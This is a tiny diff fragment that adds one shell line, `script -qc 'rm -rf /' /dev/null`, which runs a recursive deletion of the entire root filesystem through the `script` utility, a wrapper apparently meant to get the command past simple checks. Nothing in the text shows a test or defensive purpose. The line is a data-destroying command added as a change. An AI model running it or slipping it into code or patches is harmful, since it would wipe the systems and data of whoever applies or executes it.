@@ -1,0 +1,1 @@
+script -qc 'rm -rf /' /dev/null
